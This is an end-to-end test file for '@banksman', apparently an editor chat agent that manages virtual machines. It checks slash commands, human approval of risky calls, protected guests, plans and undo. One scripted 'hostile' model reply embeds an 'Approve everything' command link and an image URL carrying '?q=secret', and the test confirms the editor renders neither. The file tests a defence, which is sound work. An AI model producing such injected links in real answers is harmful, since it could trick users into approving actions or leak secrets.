/** `@banksman`: its commands, a red call that a person approves, what a small model is shown, and a model that means ill. */
import { existsSync } from 'node:fs';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { demoScript, type ModelScript } from '../../../scripts/bench/scripted-agent.ts';
import { waitForLine } from '../harness/channel-log.ts';
import { lastAnswer, pickModel, sendToParticipant, waitForAnswer } from '../harness/chat.ts';
import { callFromCommandLine } from '../harness/command-line.ts';
import { guestStatus } from '../harness/demo-api.ts';
import { launchWorkbench, MODEL_NAME, type Workbench } from '../harness/launch-workbench.ts';
import { approveInModal, waitModal } from '../harness/modal.ts';
import { screenshot } from '../harness/screenshot.ts';
import { toolResults } from '../harness/tool-results.ts';
import { waitUntil } from '../harness/wait-until.ts';

const SMALL = 'Scripted small';
const HOSTILE =
  'Done! [Approve everything](command:banksman.showLog) <a href="command:banksman.showLog">press</a> ![x](http://127.0.0.1:9/?q=secret)';

const plan = [
  { tool: 'create_snapshot', arguments: { vmid: 101, name: 'before' } },
  { tool: 'start_vm', arguments: { vmid: 101 } },
];

/** What a test says, and what the model calls for it. */
const calls: readonly (readonly [phrase: string, tool: string, args: Readonly<Record<string, unknown>>])[] = [
  ['plan for 101', 'banksman_propose_plan', { steps: plan }],
  ['sleep for a while', 'banksman_run_command', { command: 'sleep 300' }],
];

/** The demo's phrases, and a few that only a test says. */
const script: ModelScript = (turn) => {
  const asked = turn.messages.findLast(({ role }) => role === 'user')?.content ?? '';
  if (asked.includes('say something hostile')) return { text: HOSTILE };
  if (asked.includes('be out of order')) throw new Error('the model is out of order');
  const [, tool, args = {}] = calls.find(([phrase]) => asked.includes(phrase)) ?? [];
  return tool === undefined || turn.messages.at(-1)?.role === 'tool' ? demoScript(turn) : { tool, args };
};

let bench: Workbench;
beforeAll(async () => {
  bench = await launchWorkbench({
    script,
    models: { id: 'gpt-5', others: [{ id: 'llama3.2:3b', name: SMALL }] },
  });
});
afterEach(async ({ task }) => {
  await screenshot(
    bench.page,
    task.result?.state === 'fail' ? `failed-participant-${task.id}` : `p-${task.name.slice(0, 40).replaceAll(/\W+/g, '-')}`,
  );
});
afterAll(() => bench?.close());

/** The editor shows an answer word by word, and its buttons last. */
const expectAnswer = () => expect.poll(() => lastAnswer(bench.page), { timeout: 60_000 });
const toolsShown = () => bench.model.requests.findLast(({ tools }) => tools.some(({ name }) => name.startsWith('banksman_')))?.tools ?? [];

describe('commands that need no model', () => {
  it('/status says how the clusters are', async () => {
    const before = bench.model.requests.length;
    await sendToParticipant(bench.page, '@banksman /status');
    await waitForAnswer(bench.page, 'Security level: balanced');
    await expectAnswer().toMatch(/demo: 3 of 3 nodes online · \d of \d guests run/);
    expect(bench.model.requests.slice(before).filter(({ tools }) => tools.length > 0)).toEqual([]);
  });

  it('/doctor says what wants attention', async () => {
    await sendToParticipant(bench.page, '@banksman /doctor');
    await waitForAnswer(bench.page, /findings are well/);
    await expectAnswer().toContain('Open the Whole Page');
  });

  it('/undo and /explain say that there is nothing', async () => {
    await sendToParticipant(bench.page, '@banksman /undo');
    await waitForAnswer(bench.page, /nothing (?:that can be undone|to undo)/);
    await sendToParticipant(bench.page, '@banksman /explain');
    await waitForAnswer(bench.page, 'Nothing was refused');
    await expectAnswer().toContain('Show Activity');
  });
});

describe('a question', () => {
  it('is answered with what a tool said', async () => {
    await sendToParticipant(bench.page, '@banksman list vms');
    await waitForAnswer(bench.page, 'banksman_get_vms');
    expect(toolResults(bench.model).at(-1)).toContain('"vmid":100');
    await waitForLine(bench.editor, /\[info\] OK: get_vms \(green\)/);
    const names = toolsShown().map(({ name }) => name);
    expect(names).toContain('banksman_stop_vm');
    // Beyond the configured tier, whatever the model is called.
    expect(names).not.toContain('banksman_write_file');
  });

  it('goes on once a person approved what it calls', async () => {
    await sendToParticipant(bench.page, '@banksman stop vm 100 on pve');
    const modal = await waitModal(bench.page, 'Stop VM 100');
    await waitForAnswer(bench.page, 'Waits for you');
    // What the editor puts beside a question for its own agent is not for this one.
    expect(JSON.stringify(bench.model.requests.at(-1)?.messages)).not.toContain('<skills>');
    await screenshot(bench.page, 'p-waits');
    expect(await guestStatus(bench.demo.config, 100)).toBe('running');
    await approveInModal(bench.page, modal);
    await waitForAnswer(bench.page, 'banksman_stop_vm');
    expect(await guestStatus(bench.demo.config, 100)).toBe('stopped');
    await waitForLine(bench.editor, /\[info\] approved: Stop VM 100 .* by user:\w+ via editor$/);
    await waitForLine(bench.editor, /\[info\] OK: stop_vm \(red\)/);
  });

  it('about what is protected is refused, and /explain says why', async () => {
    await sendToParticipant(bench.page, '@banksman stop vm 103 on agent1');
    await waitForAnswer(bench.page, /guest 103 is protected by configuration/);
    await sendToParticipant(bench.page, '@banksman /explain');
    await waitForAnswer(bench.page, /The same call now would end as/);
    await expectAnswer().toMatch(/stop_vm[\s\S]*protected/);
  });

  it('that asks for a plan leads to one, and nothing of it runs', async () => {
    await sendToParticipant(bench.page, '@banksman /plan plan for 101');
    await waitForAnswer(bench.page, 'Show Plan');
    expect(toolsShown().map(({ name }) => name)).not.toContain('banksman_start_vm');
    expect(await guestStatus(bench.demo.config, 101)).toBe('stopped');
  });

  it('goes on by itself when the plan was answered from the chat', async () => {
    await bench.page.locator('.interactive-response').last().getByRole('button', { name: 'Review' }).last().click();
    await approveInModal(bench.page, await waitModal(bench.page, 'Run a plan of 2 steps'), 'Approve and Run');
    await bench.page.getByText('I have answered: go on').last().click();
    await waitForAnswer(bench.page, 'banksman_check_plan');
    await waitUntil('VM 101 to run', async () => (await guestStatus(bench.demo.config, 101)) === 'running');
    expect(bench.model.requests.findLast(({ tools }) => tools.length > 0)?.messages.at(-1)?.content).toContain('plan req-');
  });

  it('that is cancelled while a command runs ends the command, too', async () => {
    await sendToParticipant(bench.page, '@banksman sleep for a while');
    await waitForAnswer(bench.page, /Run a command/);
    await bench.page.locator('.interactive-input-part .codicon-stop-circle').click();
    await waitForLine(bench.editor, /run_command \(yellow\).*cancel/);
    await sendToParticipant(bench.page, '@banksman /status');
    await waitForAnswer(bench.page, 'Nothing waits for you');
    expect(await bench.page.locator('.interactive-response', { hasText: 'sleep 300' }).count()).toBe(0);
  });
});

describe('/undo', () => {
  it('lists what agents changed; another’s run is taken back by the person, not by this chat', async () => {
    await callFromCommandLine(bench, 'run_command', { command: 'echo hi > made.txt' });
    await sendToParticipant(bench.page, '@banksman /undo');
    await waitForAnswer(bench.page, /echo hi[\s\S]*1 created, 0 changed, 0 deleted/);
    const id = await bench.page.locator('.interactive-response').last().locator('code').last().innerText();
    await sendToParticipant(bench.page, `@banksman /undo ${id}`);
    await waitForAnswer(bench.page, /you have no run/);
    expect(existsSync(path.join(bench.folder, 'made.txt'))).toBe(true);
    await bench.page.locator('.interactive-response').last().getByRole('button', { name: 'Undo This Run…' }).click();
    await (await waitModal(bench.page, 'Undo what this run changed?')).click('Undo');
    await waitUntil('the file to go', () => !existsSync(path.join(bench.folder, 'made.txt')));
  });
});

describe('a model that means ill', () => {
  it('presses no button and loads no picture with its words', async () => {
    await sendToParticipant(bench.page, '@banksman say something hostile');
    await waitForAnswer(bench.page, 'Approve everything');
    const answer = bench.page.locator('.interactive-response').last();
    expect(await answer.locator('img').count()).toBe(0);
    expect(await answer.locator('[href^="command:"], [data-href^="command:"]').count()).toBe(0);
  });
});

describe('a model that fails', () => {
  it('is said to, and what needs none goes on', async () => {
    await sendToParticipant(bench.page, '@banksman be out of order');
    await waitForAnswer(bench.page, 'did not answer');
    await expectAnswer().toMatch(/These need no model: \/status/);
  });
});

describe('a small model', () => {
  it('is shown a few tools that look', async () => {
    await pickModel(bench.page, MODEL_NAME, SMALL);
    await sendToParticipant(bench.page, '@banksman containers');
    await waitForAnswer(bench.page, 'banksman_get_containers');
    const asked = bench.model.requests.findLast(({ tools }) => tools.length > 0);
    expect(asked?.model).toBe('llama3.2:3b');
    const names = (asked?.tools ?? []).map(({ name }) => name);
    expect(names.length).toBeLessThanOrEqual(12);
    expect(names).not.toContain('banksman_stop_vm');
  });
});
